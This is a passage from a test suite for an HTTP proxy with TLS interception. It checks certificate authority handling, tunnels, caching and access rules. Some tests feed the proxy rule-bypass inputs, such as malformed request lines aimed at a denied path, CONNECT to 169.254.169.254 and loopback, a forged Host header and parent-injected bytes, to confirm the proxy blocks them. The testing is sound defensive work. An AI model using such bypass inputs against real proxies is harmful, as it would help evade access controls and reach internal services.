    threading.Thread(target=serve, daemon=True).start()
    return 'localhost:%d' % l.getsockname()[1]
def talk(s, data):
    s.sendall(data); got = b''
    while len(got) < len(data): got += s.recv(65536)
    same(got, data)
    s.shutdown(socket.SHUT_WR); same(rest(s), b'end')
big = os.urandom(300000)
for first in b'SSH-2.0-client\r\n' + big, b'\0\1\2', b'\x16\x03\x01\xff\xff' + big, b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', b'EHLO here\r\n', b'\x80\x2e\x01\3\1', \
        b'x' * 40:
    talk(tunnel(server(b'')), first)
s = tunnel(server(b'SSH-2.0-server\r\n'))            # the server is the first
same(read(s, b'\n'), b'SSH-2.0-server\r\n'); talk(s, b'GET / HTTP/1.1\r\n\r\n' + big)
to = server(b'')                                     # a first word that comes in the segment of CONNECT
s = connect(); s.sendall(words(to) + b'\0early'); read(s); same(read(s, b'early'), b'\0early'); talk(s, big)
END
	python3 client.py "$port" || fail 'the client'
	logged 9
	like "$(sort -u log | sed 's/:[0-9]*//' | sort -u)" '^CONNECT localhost HTTP/1.1 200$' 'the log'
}

test_tls_that_cannot_be_read_is_that_of_the_server() {
	need python3
	need_tls
	tls_server <<'END'
ctx.set_alpn_protocols(['h2', 'http/1.1'])
def serve(c):
    try:
        t = ctx.wrap_socket(c, server_side=True)
        while b := t.recv(9999): t.sendall(b)
    except (OSError, ssl.SSLError): pass
while True: threading.Thread(target=serve, args=(s.accept()[0],), daemon=True).start()
END
	start_mitm --ca site.pem --log-format '%r %>s'
	{ tunnel_client; cat <<'END'; } >client.py
def echoed(c):
    s = secured(sys.argv[2], 'localhost', c); s.sendall(b'GET / HTTP/1.1\r\n\r\n'); same(read(s), b'GET / HTTP/1.1\r\n\r\n')
    return s
same(echoed(context(['h2'], 'site.pem')).selected_alpn_protocol(), 'h2')
c = context(None, 'site.pem'); c.minimum_version = ssl.TLSVersion.TLSv1_3
same(echoed(c).version(), 'TLSv1.3')
c = context(None, 'site.pem'); c.maximum_version = ssl.TLSVersion.TLSv1_2; c.set_ciphers('ECDHE-ECDSA-AES128-SHA256')
same(echoed(c).cipher()[0], 'ECDHE-ECDSA-AES128-SHA256')
c = context(['h2', 'http/1.1'])
same(secured(sys.argv[2], 'localhost', c).selected_alpn_protocol(), 'http/1.1')
END
	python3 client.py "$port" "localhost:$(cat port)" || fail 'the client'
	wait_for lines_in 4 log
	is "$(head -n 3 log | sort -u)" "CONNECT localhost:$(cat port) HTTP/1.1 200" 'the log'
}

test_other_protocols_inside_tls_reach_the_server_that_was_verified() {
	need python3
	need_tls
	tls_server <<'END'
def serve(c):
    try:
        t = ctx.wrap_socket(c, server_side=True); t.settimeout(1.2)
        try: b = t.recv(9999)
        except TimeoutError: b = b''
        t.settimeout(15)
        t.sendall(b or b'220 banner\r\n')
        while b := t.recv(9999): t.sendall(b)
        t.unwrap()
    except (OSError, ssl.SSLError): pass
while True: threading.Thread(target=serve, args=(s.accept()[0],), daemon=True).start()
END
	{ tunnel_client; cat <<'END'; } >client.py
to, trusted = sys.argv[2], sys.argv[3] == 'trusted'
for first in b'EHLO here\r\n', b'\x10\x0e\0\4MQTT\r\n':
    s = secured(to); s.sendall(first)
    try: got = read(s, b'\n')
    except (OSError, ssl.SSLError): got = b''
    same(got, first if trusted else b'')
if trusted:
    s = secured(to); same(read(s, b'\n'), b'220 banner\r\n')
    s.sendall(b'x' * 100000 + b'\n'); same(len(read(s, b'\n')), 100001)
END
	start_mitm --ca site.pem
	python3 client.py "$port" "localhost:$(cat port)" trusted || fail 'the client'
	certificate other p256 DNS:localhost
	start_as -l 0 -o late -M mitm --ca other.pem --log-format '%r %{why}x'
	python3 client.py "$port" "localhost:$(cat port)" not || fail 'the client that is not to reach it'
	wait_for lines_in 2 late
	is "$(sort -u late)" "CONNECT localhost:$(cat port) HTTP/1.1 tls-untrusted" 'the log'
}

test_a_client_that_speaks_late_is_read() {
	origin head 'send:HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nread' again
	start_mitm --log-format '%r %>s'
	talk "$port" "send:CONNECT localhost:$origin HTTP/1.1\r\nHost: localhost:$origin\r\n\r\n" head "wait:got$m.1" \
		"send:GET /late HTTP/1.1\r\nHost: localhost:$origin\r\n\r\n" head take:4 >said
	has "$(cat said)" read
	site -r /=200:inside
	start_as -l 0 -o second -M mitm --ca site.pem --log-format '%r %>s'
	need python3
	{ tunnel_client; echo 'import time; s = tunnel(sys.argv[2]); time.sleep(0.7)
s = context().wrap_socket(s, server_hostname="localhost"); time.sleep(0.7); same(ask(s, sys.argv[2]), ("200", "inside"))'; } >client.py
	python3 client.py "$port" "localhost:$secure" || fail 'the client'
	wait_for lines_in 1 second
	is "$(cat log second)" "GET http://localhost:$origin/late HTTP/1.1 200
GET https://localhost:$secure/ HTTP/1.1 200"
}

test_a_hello_behind_connect_or_in_pieces_is_read() {
	need python3
	site -r /=200:read -r /x=200:more
	start_mitm --ca site.pem --log-format %r
	{ tunnel_client; cat <<'END'; } >client.py
to = sys.argv[2]
def pieces(size, late):
    s = connect(); inn, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    o = context().wrap_bio(inn, out, server_hostname='localhost')
    def put(b):
        for i in range(0, len(b), size): s.sendall(b[i:i + size])
    def step(f):
        while True:
            try: return f()
            except ssl.SSLWantReadError: pass
            put(out.read()); inn.write(s.recv(65536))
    try: o.do_handshake()
    except ssl.SSLWantReadError: pass
    put(words(to) if late else words(to) + out.read())
    head = read(s); assert head.startswith(b'HTTP/1.1 200 '), head
    put(out.read())
    step(o.do_handshake)
    o.write(b'GET / HTTP/1.1\r\nHost: %s\r\n\r\nGET /x HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' % (to.encode(), to.encode())); put(out.read())
    got = b''
    while not got.endswith(b'more'): got += step(lambda: o.read(65536))
    same(got.count(b'HTTP/1.1 200 '), 2)
for size in 1, 2, 7, 100, 1 << 20: pieces(size, False); pieces(size, True)
s = connect(); s.sendall(words(to.replace(sys.argv[3], sys.argv[4])) + b'GET / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n'); got = rest(s)
same(got.count(b'HTTP/1.1 200 '), 2)
END
	start_as -q -l 0 -r /=200:x
	plain=$port
	port=${url##*:}
	IFS= read -r url <out.2
	python3 client.py "${url##*:}" "localhost:$secure" "$secure" "$plain" || fail 'the client'
	logged 21
	is "$(sort log | uniq -c | tr -s ' ' | sed 's/^ //')" "1 GET http://localhost:$plain/ HTTP/1.1
10 GET https://localhost:$secure/ HTTP/1.1
10 GET https://localhost:$secure/x HTTP/1.1"
}

test_rules_judge_what_is_asked_for_inside() {
	site -r /=200:x
	start -r /=200:x
	plain=$port
	start_mitm --ca site.pem --log-format '%r %>s' -a "GET,localhost,/ok" -a 'POST,localhost,/form' -d /ok/denied -d CONNECT
	while read -r want path args; do
		is "$(code_inside $args "https://localhost:$secure$path")" "$want" "the status of $path $args"
		is "$(code_inside -p $args "http://localhost:$plain$path")" "$want" "the status of $path $args without TLS"
	done <<-'END'
	200 /ok
	200 /ok/a?b
	403 /other
	403 /ok/denied
	403 /ok -d x
	200 /form -d x
	403 /form
	END
	is "$(connect_code -x "$url" "https://127.0.0.1:$secure/ok")" 403 'the status of CONNECT to another host'
	is "$(grep -c '^CONNECT.* 200$' log)" 0 'tunnels in the log'
	origin 'send:banner\n' rest
	talk "$port" "send:CONNECT localhost:$origin HTTP/1.1\r\nHost: localhost:$origin\r\n\r\n" 'send:\x00binary' rest >said
	hasnt "$(cat said)" banner 'what is no HTTP'
	[ ! -e "got$m.1" ] || fail 'a way to the server was opened'
	start_as -l 0 -q -M mitm -a port:"$origin"
	talk "$port" "send:CONNECT localhost:$origin HTTP/1.1\r\nHost: localhost:$origin\r\n\r\n" 'send:\x00binary' 'read:banner' >said || fail 'where it may pass it does not'
}

test_guards_hold_inside_tunnels() {
	start_mitm --log-format '%r %>s' -d to:127.0.0.1 -d to:::1
	start -r /=200:x
	inner=$port
	IFS= read -r url <out.1
	is "$(code_inside -p "http://localhost:$inner/")" 403 'the status of an address that is denied'
	for to in 169.254.169.254 0.0.0.0 127.0.0.1; do
		is "$(connect_code -x "$url" "http://$to:$inner/")" 403 "the status of CONNECT to $to"
	done
	start_as -l 0 -q -M mitm
	is "$(code_inside -p "http://localhost:$port/")" 508 'the status of itself'
	is "$(code_inside "https://localhost:$port/")" 508 'the status of itself with TLS'
	is "$(code_inside -p "http://127.0.0.1:$inner/")" 200 'the status where it may go'
}

test_a_login_at_connect_holds_for_what_is_inside() {
	need python3
	site -r /=echo
	start_mitm --ca site.pem --log-format '%u %r %>s' -u bob:secret -d user:bob,/denied
	is "$(connect_code -x "$url" "https://localhost:$secure/")" 407 'the status of CONNECT without a login'
	is "$(code_inside -U bob:secret -u own:login "https://localhost:$secure/one")" 200
	is "$(field Proxy-Authorization) $(field Authorization)" ' Basic b3duOmxvZ2lu'
	is "$(code_inside -U bob:secret "https://localhost:$secure/denied")" 403 'what bob may not have'
	is "$(code --socks5-hostname "bob:secret@127.0.0.1:$port" --cacert mitm/ca.pem "https://localhost:$secure/socks")" 200
	logged 4
	is "$(sed 1d log)" "bob GET https://localhost:$secure/one HTTP/1.1 200
bob GET https://localhost:$secure/denied HTTP/1.1 403
bob GET https://localhost:$secure/socks HTTP/1.1 200"
	has "$(head -n 1 log)" "CONNECT localhost:$secure HTTP/1.1 407"
}

test_expect_and_n_count_what_is_inside() {
	site -r /a=200:a -r /b=201:b
	start_mitm --ca site.pem -n 3 --expect 2,GET,localhost,/a,status:200 --expect 1,/b,status:201 --expect 0,CONNECT
	is "$(inside "https://localhost:$secure/a" "https://localhost:$secure/b")" ab
	is "$(inside "https://localhost:$secure/a")" a
	exits 0
	may_say '^proxy: --expect 1,/a: 2 matched$'
	start_as -q -l 0 -M mitm --ca site.pem --expect 1,/a
	for i in 1 2; do is "$(inside "https://localhost:$secure/a")" a; done
	kill -TERM "$pid"
	exits 4
}

test_a_request_inside_is_for_the_host_of_the_tunnel() {
	need python3
	site -r /=200:x
	start_mitm --ca site.pem --log-format '%{why}x'
	{ tunnel_client; cat <<'END'; } >client.py
number = sys.argv[2]; to = 'localhost:' + number
for host, target, want in (
    (to, '/', '200'), ('LOCALHOST:' + number, '/', '200'), (to, f'https://{to}/', '200'), ('localhost', '/', '200'), ('other', f'https://{to}/', '200'),
    ('other:' + number, '/', '421'), ('localhost:1', '/', '421'), ('127.0.0.1:' + number, '/', '421'), ('a.localhost:' + number, '/', '421'),
    (to, f'https://other:{number}/', '421'), (to, f'http://{to}/', '421')):
    s = secured(to); same((host, target, ask(s, host, target)[0]), (host, target, want))
s = secured(to); same(ask(s, to)[0], '200'); same(ask(s, to, to, 'CONNECT')[0], '405')
s = secured(to); s.sendall(b'GET / HTTP/1.0\r\n\r\n'); assert rest(s).endswith(b'x')
END
	python3 client.py "$port" "$secure" || fail 'the client'
	logged 14
	is "$(sort log | uniq -c | tr -s ' ' | sed 's/^ //')" '7 -
6 misdirected
1 no-connect'
}

test_a_tunnel_to_an_address_may_go_by_a_name() {
	site -r /=echo -R 'Cache-Control: max-age=60'
	start_mitm -C cache --ca site.pem --log-format '%r %>s %{why}x'
	for host in site.example other.example; do
		for i in 1 2; do
			is "$(code --socks5 "127.0.0.1:$port" --resolve "$host:$secure:127.0.0.1" --cacert mitm/ca.pem "https://$host:$secure/")" \
				"$(case $host in site*) echo 200 ;; *) echo 502 ;; esac)" "the status of $host"
			[ $host != site.example ] || is "$(field Host)" "site.example:$secure"
			hasnt "$(header Cache-Status)" hit 'Cache-Status'
		done
	done
	logged 4
	is "$(uniq log)" "GET https://site.example:$secure/ HTTP/1.1 200 -
GET https://other.example:$secure/ HTTP/1.1 502 tls-name"
	is "$(code_inside "https://127.0.0.1:$secure/")" 200 'by the address itself'
	is "$(code_inside "https://127.0.0.1:$secure/")" 200
	has "$(header Cache-Status)" '; hit'
}

test_routes_answer_for_hosts_inside_tunnels() {
	site -r /=200:real
	start_mitm --ca site.pem --log-format '%r %>s' -f -r api.example=echo -r 'api.example/v1=201:{"a":1}' -r 'a.localhost/only=200:stub'
	is "$(code_inside https://api.example/v1/x)" 201
	is "$(cat body) $(header Content-Type)" '{"a":1} application/json'
	is "$(code_inside -d b=c https://api.example/other)" 200
	is "$(member method) $(member content) $(field Host)" 'POST b=c api.example'
	is "$(code_inside -p http://api.example/v1)" 201 'without TLS'
	is "$(code_inside "https://a.localhost:$secure/only")" 200
	is "$(cat body)" stub
	is "$(code_inside "https://a.localhost:$secure/")" 404 'where no route is'
	is "$(inside "https://localhost:$secure/")" real 'what goes forward'
	logged 6
	hasnt "$(cat log)" CONNECT
}

test_what_is_read_inside_is_recorded_and_replayed() {
	site -r /a=200:one -r /b=404:none
	behind=$pid
	start_mitm --ca site.pem -C store,mode=record
	is "$(inside "https://localhost:$secure/a")" one
	is "$(code_inside -d q "https://localhost:$secure/b")" 404
	stop
	kill -TERM "$behind"
	wait "$behind"
	pids=
	start_as -l 0 -q -M mitm -C store,mode=replay
	is "$(inside "https://localhost:$secure/a")" one
	is "$(code_inside -d q "https://localhost:$secure/b")" 404
	is "$(cat body)" none
	for args in "https://localhost:$secure/c" "-d r https://localhost:$secure/b" "-p http://localhost:$secure/a"; do
		is "$(code_inside $args)" 504 "the status of $args"
	done
}

test_https_is_cached_apart_from_http() {
	site -r /=200:secure -R 'Cache-Control: max-age=60'
	start_mitm --ca site.pem -C cache
	for way in '-x' '--socks5-hostname'; do
		is "$(code $way "127.0.0.1:$port" --cacert mitm/ca.pem "https://localhost:$secure/")" 200
		is "$(cat body)" secure
		echo "$(header Cache-Status)" >>statuses
	done
	like "$(head -n 1 statuses)" 'fwd=(uri-)?miss'
	has "$(tail -n 1 statuses)" '; hit'
	hasnt "$(code_inside -p "http://localhost:$secure/") $(header Cache-Status)" hit 'what http gets'
	is "$(code_inside -I "https://localhost:$secure/")" 200
	has "$(header Cache-Status)" '; hit'
	is "$(code_inside -X POST "https://localhost:$secure/")" 200
	is "$(code_inside "https://localhost:$secure/")" 200
	hasnt "$(header Cache-Status)" '; hit' 'after a POST, Cache-Status'
}

test_what_is_inside_is_shown_with_a_curl_line_that_works() {
	site -r /=echo
	may_say .
	start_as -q -v -l 0 -M mitm --ca site.pem
	is "$(code_inside -g -d 'a=it'\''s' -H 'X-Mine: 1' "https://localhost:$secure/x?y=[1]")" 200
	hasnt "$(cat "err.$n")" CONNECT
	for line in '> POST /x?y=[1] HTTP/1.1' '> X-Mine: 1' '< HTTP/1.1 200 OK'; do has "$(cat "err.$n")" "$line"; done
	line=$(grep '^curl ' "err.$n")
	has "$line" "--cacert $PWD/mitm/ca.pem"
	cp body before
	eval "$line -q -sS -m 9 -o again" || fail "this does not work: $line"
	cmp before again || fail "this comes to something else: $line"
	talk "$port" "send:CONNECT localhost:$secure HTTP/1.1\r\nHost: localhost\r\n\r\n" head 'send:\x00' rest >said
	wait_for grep -q '^> CONNECT' "err.$n" || fail 'a tunnel that is not read is not shown'
	hasnt "$(cat "err.$n")" ' -M '
}

test_usr2_keeps_the_authority() {
	site -r /=200:x
	may_say '^proxy: USR2: started anew'
	user=
	if [ "$(id -u)" = 0 ] && id nobody >ids 2>/dev/null; then
		chmod 711 "$tmp"
		cp "$PROXY" program && chmod 755 program
		user=nobody PROXY=$PWD/program
	fi
	start_mitm --ca site.pem -w 2 ${user:+-U $user}
	is "$(inside "https://localhost:$secure/")" x
	cp mitm/ca.pem before
	upgrade 1
	upgrade 2
	for i in 1 2 3 4; do is "$(inside "https://localhost:$secure/")" x; done
	cmp before mitm/ca.pem || fail 'it is another'
	is "$(mode_of mitm) $(mode_of mitm/ca-key.pem)" '700 600'
	is "$(grep -c 'was made' "err.$n")" 1
}

test_usage_errors_of_reading_tunnels_name_what_is_wrong() {
	need_tls
	while IFS='|' read -r args message; do
		eval "set -- $args"
		(refuses "$message" "$@") || bad=1
	done <<-'END'
	-M|-M.*(value|DIR)
	-M ''|-M
	-M ,except=h|-M ,except=h: the directory is missing
	-M d,foo=1|-M d,foo=1: foo=1 is not an option of it; there is except=HOST
	-M d,except=|except=
	-M d,except|except
	-M d,except=10.0.0.0/8|not a host
	-M d -M e|-M
	-M d -r 200|-M d: there is no forward traffic
	-M d -l :0|-l :0: this would be an open proxy
	-M d -l :0 -a all|-M: everybody
	-M d -l :0|say -a from:private or -u NAME:PASSWORD$
	-l :0 -a from:0.0.0.0/0|say -a from:private, or
	-r https://api.example/v1=200:x|say -r api.example/v1=200:x$
	END
	[ ! -e d ] || fail 'a directory was made'
	exit "${bad:-0}"
}

test_a_directory_with_other_files_is_left_alone() {
	need_tls
	mkdir own && echo mine >own/bundle.pem && "$PROXY" -q -M mitm -- true 2>said && mkdir keys && cp mitm/ca-key.pem keys
	for dir in own keys; do
		try -l 0 -M $dir
		is "$status" 1
		like "$err" "^proxy: -M $dir: there are other files and no ca.pem"
	done
	is "$(cat own/bundle.pem)" mine
	cmp mitm/ca-key.pem keys/ca-key.pem || fail 'the key was replaced'
}

test_dry_run_says_what_would_be_read() {
	need_tls
	try --dry-run -l 0 -M absent,except=a.example,except=.b.example
	is "$status" 0
	has "$out" 'mitm absent,except=a.example,except=b.example'
	[ ! -e absent ] || fail 'the directory was made'
}

test_an_authority_that_cannot_be_used_is_refused() {
	need_tls
	"$PROXY" -q -M good -- true 2>said
	"$PROXY" -q -M other -- true 2>said
	certificate leaf p256 DNS:x
	openssl req -x509 -nodes -days 30 -subj '/CN=not an authority' -addext basicConstraints=critical,CA:FALSE -newkey ec -pkeyopt ec_paramgen_curve:P-256 \
		-keyout leaf.key -out leaf.pem 2>openssl.err || fail "$(cat openssl.err)"
	for dir in keyless mixed leaf empty chain secret; do mkdir $dir; cp good/ca.pem good/ca-key.pem $dir; done
	rm keyless/ca-key.pem
	cp other/ca-key.pem mixed
	cp leaf.pem leaf/ca.pem && cp leaf.key leaf/ca-key.pem
	: >empty/ca.pem
	cat good/ca.pem other/ca.pem >chain/ca.pem
	echo >file
	while IFS='|' read -r dir message; do
		try -l 0 -M $dir
		is "$status" 1 "exit status with -M $dir; $err; it"
		is "$out" ''
		like "$err" "^proxy: -M ${dir}[:/].*$message" "the message of -M $dir"
	done <<-'END'
	keyless|ca-key.pem has no key; remove ca.pem
	mixed|key does not belong
	leaf|not the certificate of an authority
	empty|no certificate
	chain|several
	file|Not a directory
	absent/below|No such file
	END
	may_say '^proxy: -M .*/secret/ca-key.pem: others may read this key.*chmod 600$'
	chmod 644 secret/ca-key.pem
	start -M secret
	has "$(cat "err.$n")" 'others may read'
	[ "$(id -u)" != 0 ] || return 0
	chmod 0 good
	try -l 0 -M good
	is "$status" 1
	has "$err" 'Permission denied'
}

test_chromium_shows_a_page_that_is_read() {
	need chromium
	start_mitm -f -r 'page.example=200:<title>inside</title><p id=a>page</p>' -R 'Content-Type: text/html'
	spki=$(shown_through page.example:443 -servername page.example | openssl x509 -noout -pubkey | openssl pkey -pubin -outform der | openssl dgst -sha256 -binary | openssl base64)
	"$peer" bound 15 chromium --headless --no-sandbox --disable-gpu --user-data-dir="$PWD/profile" --ignore-certificate-errors-spki-list="$spki" \
		--proxy-server="127.0.0.1:$port" --dump-dom https://page.example/ >dom 2>chromium.err || fail "$(tail -n 3 chromium.err)"
	has "$(cat dom)" page
	has "$(cat log)" '"GET https://page.example/ HTTP/1.1" 200'
}

test_an_authority_of_rsa_made_elsewhere_signs() {
	site -r /=200:x
	mkdir mitm
	openssl req -x509 -nodes -days 30 -subj '/O=Our Firm/CN=Our CA' -addext basicConstraints=critical,CA:TRUE -addext keyUsage=critical,keyCertSign \
		-newkey rsa:2048 -keyout mitm/ca-key.pem -out mitm/ca.pem 2>openssl.err || fail "$(cat openssl.err)"
	chmod 600 mitm/ca-key.pem
	cp mitm/ca.pem before
	start_mitm --ca site.pem
	is "$(inside "https://localhost:$secure/")" x
	shown_through "localhost:$secure" -showcerts >shown
	has "$(cat shown)" 'CN = Our CA'
	sed -n '/BEGIN/,/END/p' shown >leaf.pem
	is "$(openssl verify -x509_strict -verify_hostname localhost -CAfile mitm/ca.pem leaf.pem 2>&1)" 'leaf.pem: OK'
	cmp before mitm/ca.pem || fail 'it is another'
	has "$(cat mitm/bundle.pem)" "$(cat mitm/ca.pem)"
	is "$(cat "err.$n")" ''
}

test_a_listener_with_tls_is_of_the_authority_too() {
	site -r /=200:x
	may_say '^proxy: -M: an authority was made for you: '
	start_as -q -l https://127.0.0.1:0 -M mitm -f -r '/=200:itself' --ca site.pem
	is "$(get --cacert mitm/ca.pem "https://localhost:$port/")" itself
	is "$(get --cacert mitm/ca.pem "https://127.0.0.1:$port/")" itself
	has "$(shown | sed -n 's/^issuer=//p')" 'proxy CA'
	for host in localhost 127.0.0.1; do
		is "$(get --proxy-cacert mitm/ca.pem --cacert mitm/ca.pem -x "https://$host:$port" "https://localhost:$secure/")" x 'TLS in TLS'
	done
	certificate own p256 DNS:localhost
	start_as -q -l https://127.0.0.1:0 -c own.pem,key=own.key -M mitm --ca site.pem
	is "$(get --proxy-cacert own.pem --cacert mitm/ca.pem -x "https://localhost:$port" "https://localhost:$secure/")" x 'with a certificate of its own'
}

https_parent() {  # a proxy with TLS that may go everywhere, at $parent; its log is in the file parent
	certificate parent p256 DNS:localhost
	start_as -o parent --log-format '%u %r %>s' -l https://127.0.0.1:0 -c parent.pem,key=parent.key "$@"
	parent=$port
	cat site.pem parent.pem >both.pem
}

test_a_parent_is_reached_by_https() {
	site -r /=echo
	start -r /=echo
	plain=$port
	https_parent -u me:secretpw -A 0
	admin=$(sed -n 2p "out.$n")
	start_mitm --ca both.pem -x "https://me:secretpw@localhost:$parent"
	for i in 1 2 3; do
		is "$(code -x "$url" "http://localhost:$plain/plain")" 200 "the status of http: $(cat body)"
		is "$(member target)$(field Proxy-Authorization)" /plain
	done
	for i in 1 2 3; do
		is "$(code_inside -d content "https://localhost:$secure/inside")" 200 "the status of https: $(cat body)"
		is "$(member target) $(member content)$(field Proxy-Authorization)" '/inside content'
	done
	printf 'GET https://localhost:%s/form HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n' "$secure" >asked
	has "$(talk "$port" "send:$(cat asked)" rest)" '"target":"/form"' 'https by an absolute-form'
	stop
	wait_for lines_in 4 parent
	is "$(sort parent | uniq)" "me CONNECT localhost:$secure HTTP/1.1 200
me GET http://localhost:$plain/plain HTTP/1.1 200"
	is "$(grep -c GET parent)" 3
	[ "$(grep -c CONNECT parent)" -le 2 ] || fail "connections are not used again: $(cat parent)"
	[ "$(metric 'proxy_tls_handshakes_total{result="full"}')" -le 2 ] || fail 'connections or sessions are not used again'
}

test_a_parent_that_is_not_trusted_is_told_nothing() {
	site -r /=200:x
	start -r /=200:x
	plain=$port
	https_parent
	certificate other p256 DNS:other.example
	while read -r with trust why; do
		start_mitm $trust --log-format '%>s %{why}x' -x "https://me:secretpw@$with"
		is "$(code -x "$url" "http://localhost:$plain/")" 502 "the status of http with $trust"
		is "$(code_inside "https://localhost:$secure/")" 502 "the status of https with $trust"
		is "$(connect_code -x "$url" "http://localhost:$plain/" --data x)" 200
		wait_for grep -q . log
		is "$(sort -u log)" "502 $why" "with $trust"
		: >log
	done <<-END
	localhost:$parent --ca=site.pem parent-untrusted
	127.0.0.1:$parent --ca=both.pem parent-name
	127.0.0.1:$plain -k parent-tls-failed
	END
	is "$(sort -u parent)" '- - -'              # handshakes that failed, and no request
}

test_what_may_be_anything_does_not_get_past_rules_on_messages() {
	need python3
	start -r /secret=200:secret -r /=200:x
	inner=$port
	start_mitm -d /secret
	tunnel_client >client.py
	cat >>client.py <<'END'
to = 'localhost:' + sys.argv[2]
for first in (b'\r\nGET /secret', b' GET /secret', b'GET  /secret', b'GET\t/secret', b'X' * 40 + b' /secret', b'\1\2'):
    s = tunnel(to)
    s.sendall(first + b' HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' % to.encode())
    try: got = rest(s)
    except ConnectionResetError: got = b''
    assert b'secret' not in got and b'200' not in got, (first, got)
s = tunnel(to)
s.sendall(b'\r\n'); same(ask(s, to), ('200', 'x'))
END
	python3 client.py "$port" "$inner" || fail 'the client'
	start_mitm -a GET,localhost -a CONNECT,to:127.0.0.1 -d to:192.0.2.0/24 -d POST,other.example
	python3 - "$port" "$inner" <<'END' || fail 'a tunnel that may pass unread'
import socket, sys
s = socket.create_connection(('127.0.0.1', int(sys.argv[1]))); s.settimeout(15)
s.sendall(b'CONNECT 127.0.0.1:%s HTTP/1.1\r\nHost: h\r\n\r\n' % sys.argv[2].encode())
got = b''
while b'\r\n\r\n' not in got: got += s.recv(1)
s.sendall(b'GET  / HTTP/1.1\r\nHost: h\r\n\r\n')
assert b'400' in s.recv(999)
END
}

hasty_parent() {  # PORT PYTHON: a parent, on the port in the file parents, that leads there, its 200 followed by these octets
	cat >parent.py <<'END'
import socket, sys, threading
p = socket.create_server(('127.0.0.1', 0)); print(p.getsockname()[1], flush=True)
def copy(a, b):
    try:
        while d := a.recv(65536): b.sendall(d)
        b.shutdown(1)
    except OSError: pass
while True:
    c = p.accept()[0]; c.recv(999)
    u = socket.create_connection(('127.0.0.1', int(sys.argv[1])))
    c.sendall(b'HTTP/1.1 200 OK\r\n\r\n' + eval(sys.argv[2]))
    threading.Thread(target=copy, args=(c, u), daemon=True).start()
    threading.Thread(target=copy, args=(u, c), daemon=True).start()
END
	python3 parent.py "$1" "$2" >parents 2>/dev/null & helpers="$helpers $!"
	wait_for lines_in 1 parents
}

test_a_parent_cannot_put_words_into_what_is_read() {
	need python3
	site -r /=200:x
	tls_server <<'END'
while True:
    try:
        t = ctx.wrap_socket(s.accept()[0], server_side=True); t.recv(9); t.sendall(b'real'); t.unwrap()
    except (OSError, ssl.SSLError): pass
END
	server=$(cat port)
	hasty_parent "$server" "b'INJECTED'"
	start_mitm --ca site.pem -x "http://127.0.0.1:$(cat parents)"
	tunnel_client >client.py
	cat >>client.py <<'END'
s = secured('localhost:' + sys.argv[2]); s.sendall(b'\1\2')
try: got = rest(s)
except OSError: got = b''
same(got, b'')
END
	python3 client.py "$port" "$server" || fail 'the client'
}

test_a_parent_is_asked_for_the_address_not_for_the_name() {
	need python3
	origin head 'send:HTTP/1.1 200 OK\r\n\r\n' head 'send:HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\nx' again
	start_mitm -a to:203.0.113.0/24 -x "http://127.0.0.1:$origin"
	tunnel_client >client.py
	cat >>client.py <<'END'
s = tunnel('203.0.113.5:80'); same(ask(s, 'evil.test'), ('200', 'x'))
END
	python3 client.py "$port" || fail 'the client'
	has "$(cat "got$m.1")" 'CONNECT 203.0.113.5:80 HTTP/1.1'
	has "$(cat "got$m.1")" 'Host: evil.test'
}

test_a_client_that_says_no_more_hears_the_server_through_m() {
	origin 'send:banner' shut rest
	start_mitm
	has "$(talk "$port" "send:CONNECT localhost:$origin HTTP/1.1\r\nHost: h\r\n\r\n" 'read:\r\n\r\n' shut rest)" banner
	has "$(talk "$port" "send:CONNECT localhost:$origin HTTP/1.1\r\nHost: h\r\n\r\n" 'read:\r\n\r\n' send:QU shut rest)" banner
	wait_for grep -qs QU "got$m.2" || fail "the server got: $(cat "got$m.2")"
}

test_a_silent_client_is_waited_for_though_the_server_is_down() {
	need python3
	start_mitm -f -r api.example=200:stub
	tunnel_client >client.py
	cat >>client.py <<'END'
import time
a, b = tunnel('api.example:80'), tunnel('localhost:1')
time.sleep(0.8)                                 # the silence is what counts
same(ask(a, 'api.example'), ('200', 'stub'))
same(ask(b, 'localhost:1')[0], '502')
END
	python3 client.py "$port" || fail 'the client'
}

test_plain_http_in_a_tunnel_by_a_listener_with_tls_is_plain() {
	start -r /=200:x
	inner=$port
	need_tls
	may_say '^proxy: -M: an authority was made for you: '
	start_as -o log -v -l https://127.0.0.1:0 -M mitm
	may_say .
	is "$(get --proxy-cacert mitm/ca.pem -p -x "https://127.0.0.1:$port" "http://localhost:$inner/")" x
	has "$(cat log)" "\"GET http://localhost:$inner/ "
	sed -n 's/^curl /get /p' log >again
	has "$(cat again)" --proxy-cacert
	is "$(. ./again)" x
}

test_a_hello_in_many_small_records_is_answered() {
	need python3
	certificate site p256 DNS:localhost
	secure site -r /=200:x
	python3 - "$secure" <<'END' || fail 'the client'
import socket, ssl, struct, sys
x = ssl.create_default_context(cafile='site.pem'); i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
t = x.wrap_bio(i, o, server_hostname='localhost')
try: t.do_handshake()
except ssl.SSLWantReadError: pass
b = o.read()[5:]
for size in range(2, 24):
    c = socket.create_connection(('127.0.0.1', int(sys.argv[1]))); c.settimeout(15)
    c.sendall(b''.join(b'\x16\3\1' + struct.pack('>H', len(b[k:k+size])) + b[k:k+size] for k in range(0, len(b), size)))
    assert c.recv(9)[:1] == b'\x16', size
END
}

test_a_server_that_greets_first_is_asked_once() {
	need python3
	origin 'send:220 one\r\n' read:EHLO 'send:250 yes\r\n' rest -- 'send:220 two\r\n' hang
	server=$origin
	hasty_parent "$server" 'u.recv(99)'
	start_mitm -x "http://127.0.0.1:$(cat parents)"
	tunnel_client >client.py
	cat >>client.py <<'END'
s = tunnel('localhost:25')
same(s.recv(99), b'220 one\r\n'); s.sendall(b'EHLO me\r\n'); same(s.recv(99), b'250 yes\r\n')
END
	python3 client.py "$port" || fail 'the client'
}

test_whose_certificate_it_is_is_known_inside() {
	need python3
	certificate site p256 DNS:localhost
	certificate client p256 DNS:client
	need_tls
	may_say '^proxy: -M: an authority was made for you: '
	start -r /=echo
	start_as -q -l https://127.0.0.1:0,client-ca=client.pem -c site.pem,key=site.key -M mitm -f -r "api.example=http://127.0.0.1:$port"
